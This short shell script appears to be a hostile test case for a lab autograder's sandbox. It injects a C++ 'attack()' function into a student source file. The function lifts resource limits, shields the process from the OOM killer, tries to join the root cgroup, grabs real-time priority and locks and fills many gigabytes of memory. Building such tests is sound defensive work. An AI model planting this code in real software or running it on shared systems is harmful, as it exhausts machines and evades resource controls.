#!/bin/sh
# Lifts its limits, makes itself the last to be killed and the first to run, and then takes memory.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <unistd.h>
static void* volatile kept; // or else the compiler leaves all of it out
static void attack() {
    const rlimit unlimited{RLIM_INFINITY, RLIM_INFINITY};
    for (int resource = 0; resource < 16; ++resource)
        ::setrlimit(static_cast<__rlimit_resource>(resource), &unlimited);
    std::ofstream("/proc/self/oom_score_adj") << "-1000";
    std::ofstream("/proc/self/clear_refs") << "1";
    std::ofstream("/sys/fs/cgroup/cgroup.procs") << ::getpid();
    ::setpriority(PRIO_PROCESS, 0, -20);
    const sched_param first{99};
    ::sched_setscheduler(0, SCHED_FIFO, &first);
    ::prctl(PR_SET_PDEATHSIG, 0);
    ::prctl(PR_SET_DUMPABLE, 0);
    ::mlockall(MCL_CURRENT | MCL_FUTURE);
    for (int i = 0; i < 512; ++i)
        if (void* memory = std::malloc(std::size_t{64} << 20)) {
            kept = memory;
            std::memset(memory, 1, std::size_t{64} << 20);
        }
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
